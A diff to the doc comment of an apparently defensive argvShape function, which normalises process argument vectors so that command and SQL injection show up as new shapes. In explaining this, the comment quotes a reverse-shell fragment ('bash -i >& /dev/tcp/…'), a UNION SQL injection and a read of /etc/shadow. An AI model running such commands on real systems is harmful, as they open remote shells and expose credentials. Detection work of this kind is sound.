@@ -3,7 +3,9 @@
  * taken out. Used by the replica comparison (its commands aspect) and by the encoder in
  * improved mode (the execve family's argument), so that both read a command the same way.
  *
- * The rule: quoted literals ('…' or "…") and numbers are data, everything else is shape. A web
+ * The rule (version 2, argvShape): an argv element that is a single value (a file name, a host,
+ * an id) is data and becomes its class; options and embedded programs (an `sh -c` script, an SQL
+ * query) are shape, with their quoted literals ('…' or "…") and numbers taken out as data. A web
  * app that runs `sqlite3 … "SELECT … WHERE name LIKE '%tea%'"` per request gives one shape for
  * every search term; an injection (`… LIKE '%tea%' UNION ALL SELECT CHAR(113,…)`) leaves SQL
  * outside the quotes and so another shape.
@@ -121,15 +123,22 @@ function valueClass(v: string): string {
  * shell, python, perl, ruby, node, php), its first element that is not an option names the program
  * it runs (`/bin/sh /srv/app/cgi-bin/status.cgi`, `sh -c id`) and is kept as a program too
  * (normalised, not a class): an uploaded script run by the shell is another program, not another
- * value. What an attack still changes:
- * a new program (its own execve), an option the service never passes, or code in a script or
- * query; a different value of an argument the service already passes is not seen here (a file
- * it opens still is, by its path, in the other argument families).
+ * value.
+ *
+ * The attacks, thought through before measuring: command injection into `sh -c "ping -c 1 -W 1
+ * HOST"` puts `; bash -i >& /dev/tcp/…` into the script, which keeps its structure, so the
+ * shape changes (and bash is a new program, its own execve); SQL injection changes the query
+ * outside its literals; an uploaded program run directly is a new exe, run by an interpreter a
+ * new script; a container escape runs programs the service never runs. What an attack no
+ * longer changes: a value it chooses for an argument the service already passes with a single
+ * value (`sha256sum /etc/shadow` is `sha256sum <path>`); the file is still seen by its path, in
+ * the open family.
  *
  * `elements` are exact for base64 argv (NUL-separated). sysdig's text joins them with '.', which
  * file names and addresses contain too, so there the pieces between dots are taken as the
- * elements: a value with dots gives a run of values, one class either way; a program with dots
- * keeps them as separators (its shape is then only comparable with sysdig text, as in version 1).
+ * elements: a value with dots gives a run of values, one class either way; a script with dots
+ * (`ping … 127.0.0.1`) is cut at them, its first piece a program and the rest values, so its
+ * shape is only comparable with sysdig text (as in version 1).
  */
 export function argvShape(elements: readonly string[], exe = ''): string {
   const out: string[] = [];
